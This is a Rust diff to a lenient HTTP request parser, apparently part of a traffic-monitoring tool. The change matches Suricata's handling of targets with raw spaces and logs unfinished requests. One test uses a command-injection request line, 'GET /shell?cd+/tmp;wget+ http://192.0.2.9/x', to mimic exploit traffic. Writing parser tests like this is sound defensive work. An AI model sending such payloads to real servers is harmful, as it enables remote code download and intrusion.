@@ -156,9 +156,11 @@ impl<'a> HeadFields<'a> {
     }
 }
 
-/// A head httparse rejected: the request line must be `METHOD SP target [SP HTTP/x.y]`
-/// and the head must end in a blank line; header lines without a colon are skipped.
-/// Ends because each header line consumes bytes up to its line feed, within the head.
+/// A head httparse rejected, read as Suricata's HTTP parser reads it: the request line is
+/// the method, then the target up to the last space before an `HTTP/` version (so a target
+/// with raw spaces, common in exploit traffic, is kept whole), or to the end of the line
+/// without one; the head must end in a blank line; header lines without a colon are
+/// skipped.
 fn parse_lenient(stream: &[u8]) -> Scan<'_> {
     let Some(end) = find_head_end(stream) else {
         return if stream.len() < MAX_HEAD_LEN {
@@ -174,28 +176,55 @@ fn parse_lenient(stream: &[u8]) -> Scan<'_> {
         2
     };
     let head_len = end.saturating_add(terminator);
-    let Some(head) = stream.get(..end) else {
-        return Scan::NotHttp;
+    match stream.get(..end).and_then(|head| read_head(head, head_len)) {
+        Some(request) => Scan::Complete(request),
+        None => Scan::NotHttp,
+    }
+}
+
+/// The request a client began but never finished (the stream ended, or a hole cut it):
+/// its request line, whole or cut at the end of the bytes, and its whole header lines.
+/// Suricata logs such requests at the end of the stream; so does aigress.
+pub fn partial_request(bytes: &[u8]) -> Option<Request<'_>> {
+    if !looks_like_request(bytes) {
+        return None;
+    }
+    let bytes = bytes.get(..bytes.len().min(MAX_HEAD_LEN))?;
+    // A line cut short is not read, unless it is the request line itself.
+    let whole_lines = match bytes.iter().rposition(|b| *b == b'\n') {
+        Some(last) => bytes.get(..last)?,
+        None => bytes,
     };
+    read_head(whole_lines, bytes.len())
+}
+
+/// Reads a head's lines leniently (see [`parse_lenient`]).
+/// Ends because each header line consumes bytes up to its line feed, within the head.
+fn read_head(head: &[u8], head_len: usize) -> Option<Request<'_>> {
     let mut lines = head
         .split(|b| *b == b'\n')
         .map(|l| l.strip_suffix(b"\r").unwrap_or(l));
-    let Some(line) = lines.next() else {
-        return Scan::NotHttp;
-    };
-    let mut parts = line.split(|b| *b == b' ');
-    let (Some(method), Some(target), version, None) =
-        (parts.next(), parts.next(), parts.next(), parts.next())
-    else {
-        return Scan::NotHttp;
-    };
+    let line = lines.next()?;
+    let space = line.iter().position(|b| *b == b' ')?;
+    let method = line.get(..space)?;
+    let rest = line.get(space.saturating_add(1)..)?;
     let token = |b: &[u8]| !b.is_empty() && b.iter().all(|c| c.is_ascii_graphic());
-    if !token(method) || !token(target) || version.is_some_and(|v| !v.starts_with(b"HTTP/")) {
-        return Scan::NotHttp;
+    // With a version at the end, the target is everything before it, spaces and all; an
+    // HTTP/0.9-style line without one has a target without spaces.
+    let target = match rest.iter().rposition(|b| *b == b' ') {
+        Some(last) if rest.get(last.saturating_add(1)..)?.starts_with(b"HTTP/") => {
+            let target = rest.get(..last)?;
+            let text = target.iter().all(|c| c.is_ascii_graphic() || *c == b' ');
+            (text && target.first().is_some_and(u8::is_ascii_graphic)).then_some(target)?
+        }
+        _ => token(rest).then_some(rest)?,
+    };
+    if !token(method) {
+        return None;
     }
     let (Ok(method), Ok(target)) = (std::str::from_utf8(method), std::str::from_utf8(target))
     else {
-        return Scan::NotHttp;
+        return None;
     };
     let mut fields = HeadFields::default();
     for header in lines.take(MAX_HEADERS) {
@@ -206,7 +235,7 @@ fn parse_lenient(stream: &[u8]) -> Scan<'_> {
             fields.read(name, value.trim_ascii());
         }
     }
-    Scan::Complete(fields.request(method, target, head_len))
+    Some(fields.request(method, target, head_len))
 }
 
 /// A Host header's name and port, as Suricata splits them: `api.example:8080` is
@@ -332,6 +361,22 @@ User-Agent: OpenAI/Python 1.54.0\r\nContent-Length: 12\r\n\r\n{\"model\":1}\n";
         assert_eq!(parse_request(b"GET /bad.html\r\n"), Scan::Incomplete);
         assert_eq!(parse_request(b"GET a b c\r\n\r\n"), Scan::NotHttp);
         assert_eq!(parse_request(b"GET / FTP/1\r\n\r\n"), Scan::NotHttp);
+        // A raw space in the target, as exploit traffic sends it: split at the last space
+        // before the version, as Suricata's HTTP parser splits it.
+        let Scan::Complete(r) =
+            parse_request(b"GET /shell?cd+/tmp;wget+ http://192.0.2.9/x HTTP/1.1\r\n\r\n")
+        else {
+            panic!()
+        };
+        assert_eq!((r.method, r.path), ("GET", "/shell"));
+        let partial =
+            partial_request(b"GET /login HTTP/1.1\r\nHost: api.example\r\nUser-Ag").unwrap();
+        assert_eq!(
+            (partial.path, partial.host, partial.user_agent),
+            ("/login", Some(&b"api.example"[..]), None)
+        );
+        assert!(partial_request(b"GET /").is_some());
+        assert!(partial_request(b"HELLO /").is_none());
         assert_eq!(find_head_end(b"a\nb\r\n\r\n"), Some(4));
         assert_eq!(find_head_end(b"a\n\n"), Some(1));
         assert_eq!(find_head_end(b"a\r\nb"), None);
